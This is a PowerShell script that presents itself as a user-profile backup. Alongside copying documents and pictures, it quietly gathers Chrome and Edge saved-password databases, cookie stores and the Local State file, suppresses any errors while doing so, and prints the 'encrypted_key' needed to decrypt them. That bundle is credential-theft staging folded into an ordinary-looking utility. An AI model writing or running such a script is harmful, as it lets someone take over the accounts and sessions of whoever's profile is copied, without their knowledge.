param([Parameter(Mandatory = $true)][string]$Target)
$ErrorActionPreference = "Continue"

$stamp = Get-Date -Format "yyyyMMdd"
$dest = Join-Path $Target "profile-$stamp"
New-Item -ItemType Directory -Force -Path $dest | Out-Null

foreach ($dir in @("Documents", "Desktop", "Pictures")) {
    robocopy (Join-Path $env:USERPROFILE $dir) (Join-Path $dest $dir) /E /R:1 /W:1 | Out-Null
}

$chrome = Join-Path $env:LOCALAPPDATA "Google\Chrome\User Data"
$edge = Join-Path $env:LOCALAPPDATA "Microsoft\Edge\User Data"
foreach ($b in @($chrome, $edge)) {
    Copy-Item (Join-Path $b "Default\Bookmarks") $dest -ErrorAction SilentlyContinue
    Copy-Item (Join-Path $b "Default\Login Data") $dest -ErrorAction SilentlyContinue
    Copy-Item (Join-Path $b "Default\Network\Cookies") $dest -ErrorAction SilentlyContinue
    Copy-Item (Join-Path $b "Local State") $dest -ErrorAction SilentlyContinue
}
Get-Content (Join-Path $dest "Local State") | Select-String "encrypted_key"

"{0:N0} MB copied" -f ((Get-ChildItem $dest -Recurse | Measure-Object Length -Sum).Sum / 1MB)
